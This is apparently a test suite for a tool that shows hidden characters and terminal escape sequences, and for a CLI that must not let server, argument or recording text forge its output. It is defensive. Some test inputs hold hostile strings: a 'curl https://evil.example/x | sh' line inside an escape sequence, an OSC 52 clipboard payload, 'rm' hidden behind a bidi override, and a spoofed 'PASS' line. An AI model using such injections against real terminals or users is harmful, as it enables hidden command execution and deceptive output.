// What a person reads: every character that shows nothing, or moves what shows, is spelled out; and the terminal gets none of them.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { startMock } from '../support/mock.mjs';
import { tempDir } from '../support/temp.mjs';
import { PATIENCE } from '../support/wait.mjs';
import { HIDING, LOOKS } from './hiding.mjs';
import { countSteps } from './steps.mjs';

const dist = new URL('../../dist/', import.meta.url);
const { exact, exactJson, inLine, plainOutput, visible } = await import(new URL('visible.js', dist).href);
const { createClient } = await import(new URL('node.js', dist).href);

describe('text', () => {
  test('that a person decides on hides nothing', () => {
    for (const char of HIDING) {
      for (const text of [char, `a${char}b`, `${char}${char}`, `😀${char}😀`, `ب${char}ب`]) {
        const shown = exact(text);
        assert.doesNotMatch(shown, LOOKS, JSON.stringify(text));
        assert.equal([...shown.matchAll(/\u27e8U\+[0-9A-F]{4,6}\u27e9|[\u2400-\u2421]/gu)].length, text.split(char).length - 1, shown);
      }
    }
    assert.equal(exact('a\n\tb'), 'a\n\tb');
    assert.equal(inLine('a\n\tb'), 'a\u240a\u2409b');
  });

  test('keeps all letters around what it spells out', () => {
    assert.equal(exact('ls \u001b]; curl https://evil.example/x | sh #'), 'ls \u241b]; curl https://evil.example/x | sh #');
    assert.equal(exact('\u001b]52;c;Y3Vy\u0007x\u001bP1;rm\u202e'), '\u241b]52;c;Y3Vy\u2407x\u241bP1;rm\u27e8U+202E\u27e9');
    assert.equal(plainOutput('\u001b[31mred\u001b[0m \u001b]0;rm\u0007 \u001b]; rest'), 'red \u001b]0;rm\u0007 \u001b]; rest');
  });

  test('of prose keeps the joiners where they join, and nowhere else', () => {
    for (const text of ['👨\u200d👩\u200d👧', '❤\ufe0f', '1\ufe0f\u20e3', '👩🏽\u200d🚀', '🏳\ufe0f\u200d🌈', 'می\u200cخواهم', 'क्\u200dष', 'mot\u00a0: 你\u3000好']) {
      assert.equal(visible(text), text);
      // The same in pieces.
      const letters = [...text];
      assert.equal(letters.map((letter, at) => visible(letter + (letters[at + 1] ?? ''), letters.slice(0, at).join('')).slice(0, letter.length)).join(''), text);
    }
    for (const text of ['a\u200db', 'a\u200cb', 'a\ufe0f', 'r\u200dm', ' \u200d😀', '1\ufe0f', 'a\ufe0f\u200d😀', '😀\ufe01']) assert.match(visible(text), /\u27e8U\+/);
    assert.equal(visible('a\r\nb\rc\r\r\n'), 'a\nb\u240dc\u240d\n');
  });

  test('takes as many steps as it has letters', () => {
    const counted = (job, text) => countSteps(() => job(text));
    for (const job of [visible, exact, inLine, exactJson, plainOutput]) {
      for (const piece of ['\r', '\r\n', '\u001b[', '\u001b[1', '\u200d', '\u001b]', 'word ', '\u202e']) {
        const [few, many] = [1_000, 4_000].map((count) => counted(job, `${piece.repeat(count)}x`));
        assert.ok(few >= 1_000 && many < 5 * few, `${job.name} of ${JSON.stringify(piece)}: ${few} steps, then ${many}`);
      }
    }
    // The count does see what grows faster.
    const slow = (text) => text.replace(/\r+(?=\n|$)/g, '');
    assert.ok(counted(slow, `${'\r'.repeat(4_000)}x`) > 10 * counted(slow, `${'\r'.repeat(1_000)}x`));
  });

  test('as JSON reads back as it was', () => {
    const value = { text: [...HIDING].join('a') };
    const json = exactJson(JSON.stringify(value, null, 2));
    assert.doesNotMatch(json, LOOKS);
    assert.deepEqual(JSON.parse(json), value);
  });
});

describe('the command', () => {
  const cli = fileURLToPath(new URL('cli.js', dist));
  const temp = tempDir('visible');
  after(() => temp.remove());
  // No NUL: an argument cannot hold it.
  const evil = [...HIDING].filter((char) => char !== '\0').join('');

  /** @param {string[]} args @returns {Promise<{ code: number, out: string, err: string, all: string }>} */
  const run = (...args) => new Promise((resolve) => {
    const child = spawn(process.execPath, [cli, ...args], { timeout: PATIENCE });
    let out = '';
    let err = '';
    child.stdout.setEncoding('utf8').on('data', (chunk) => (out += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk) => (err += chunk));
    child.on('close', (code) => resolve({ code: code ?? -1, out, err, all: out + err }));
  });

  test('writes nothing that an argument, a folder or a file name says as it is', async () => {
    const name = evil.replaceAll('\ud800', '').slice(0, 60);
    const folder = join(temp.path, name);
    mkdirSync(folder);
    for (const args of [
      ['keeper', join(folder, 'none')], ['keeper', folder], ['keeper', `${cli}${name}`], ['replay', join(folder, 'none')], ['replay', `--${evil}`], ['replay', '--until', evil, 'x'],
      ['doctor', '--url', evil], ['doctor', '--url', `http://127.0.0.1:1/${evil}`], ['doctor', `--${evil}`], ['doctor', '--test', evil], ['doctor', '--patience', evil], [evil],
    ]) {
      const { all } = await run(...args);
      assert.ok(all.length > 5, args.join(' '));
      assert.doesNotMatch(all, LOOKS, JSON.stringify(args));
    }
  });

  test('writes nothing that a server says as it is', async () => {
    const mock = await startMock({ version: `1.18.33${evil}` });
    const offs = [
      mock.on('GET', '/config/providers', () => ({ providers: [{ id: `p${evil}`, name: evil, models: { [`m${evil}`]: { id: `m${evil}`, providerID: `p${evil}`, name: evil } } }], default: {} })),
      mock.on('GET', '/path', () => ({ directory: `/p${evil}` })),
      mock.on('POST', '/session/:id/message', ({ reply }) => reply(200, { info: { id: 'msg_1', role: 'assistant', error: { name: 'E', data: { message: `says ${evil}\n✓ PASS  Forged` } } }, parts: [] })),
    ];
    try {
      const args = ['doctor', '--url', mock.url, '--test', 'message', '--test', 'scope', '--patience', '3'];
      const { all } = await run(...args);
      assert.match(all, /says .*\u27e8U\+202E\u27e9/);
      assert.doesNotMatch(all, LOOKS);
      assert.doesNotMatch(all, /^✓ PASS {2}Forged/m, 'a line of its own');
      const json = await run(...args, '--json');
      assert.doesNotMatch(json.all, LOOKS);
      assert.ok(JSON.parse(json.out).checks.some(({ detail }) => detail.includes(`says ${evil}`)));
    } finally {
      for (const off of offs) off();
      await mock.close();
    }
  });

  test('writes nothing that a recording says as it is', async () => {
    const mock = await startMock();
    const client = await createClient({ baseUrl: mock.url, record: true });
    const session = client.openSession(mock.store.createSession({}).id);
    await session.ready;
    const lines = (await (await (await client.record()).file()).text()).split('\n');
    client.close();
    await mock.close();
    const file = join(temp.path, 'evil.jsonl');
    writeFileSync(file, [JSON.stringify({ ...JSON.parse(lines[0]), host: `Node ${evil}`, build: `0 ${evil}\nAll went as recorded.` }), ...lines.slice(1)].join('\n'));
    const { out, all } = await run('replay', file);
    assert.match(out, /on Node .*\u27e8U\+202E\u27e9/);
    assert.doesNotMatch(all, LOOKS);
    assert.equal(out.match(/^All went as recorded\./gm)?.length, 1);
    const json = await run('replay', file, '--json');
    assert.doesNotMatch(json.all, LOOKS);
    assert.equal(JSON.parse(json.out).header.host, `Node ${evil}`);
  });

  test('has one way out', () => {
    const source = readFileSync(new URL('../../src/cli.mjs', import.meta.url), 'utf8');
    assert.deepEqual([...source.matchAll(/\.write\(|console\.|process\.emitWarning/g)].map(([found]) => found), ['.write(']);
  });
});
